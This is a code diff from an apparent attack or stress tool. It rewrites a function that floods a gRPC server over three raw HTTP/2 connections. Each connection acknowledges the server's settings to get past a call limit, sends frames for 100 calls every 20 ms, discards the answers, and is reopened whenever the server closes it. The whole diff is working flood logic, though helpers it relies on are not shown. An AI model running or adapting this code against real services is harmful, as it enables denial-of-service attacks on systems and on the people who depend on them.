@@ -262,30 +262,22 @@ async def _flood(attacker: Attacker, call: Callable[[int], bytes]) -> None:
     """Three connections, each with the frames of 100 calls every 20 ms. What the server ends is opened again."""
 
     async def connection() -> None:
-        with _connected(attacker.target) as connected:
+        reader, writer = await asyncio.open_connection(*split(attacker.target))
+        with contextlib.closing(writer):
+            writer.write(_PREFACE)
+            await reader.read(1 << 16)
+            # Before that gRPC takes a hundred calls of a connection in all.
+            writer.write(_frame(_SETTINGS, _ACK, 0))
             for first in itertools.count(1, 200):
-                connected.sendall(b"".join(call(stream) for stream in range(first, first + 200, 2)))
-                _drop_answers(connected)
-                await asyncio.sleep(0.02)
+                writer.write(b"".join(call(stream) for stream in range(first, first + 200, 2)))
+                await writer.drain()
+                with contextlib.suppress(TimeoutError):
+                    async with asyncio.timeout(0.02):
+                        while await reader.read(1 << 16):
+                            pass
+                        return
 
     await attacker.repeat(connection, 3)
-
-
-def _connected(target: str) -> socket.socket:
-    """A connection that has acknowledged the server's settings: before that gRPC takes a hundred calls in all."""
-    connection = socket.create_connection(split(target), timeout=10)
-    connection.sendall(_PREFACE)
-    connection.recv(1 << 16)
-    connection.sendall(_frame(_SETTINGS, _ACK, 0))
-    return connection
-
-
-def _drop_answers(connection: socket.socket) -> None:
-    """Read what has come. Raises OSError for a connection that the server has ended."""
-    with contextlib.suppress(BlockingIOError):
-        while connection.recv(1 << 16, socket.MSG_DONTWAIT):
-            pass
-        raise ConnectionResetError
 
 
 async def load_models(target: str, key: str) -> None:
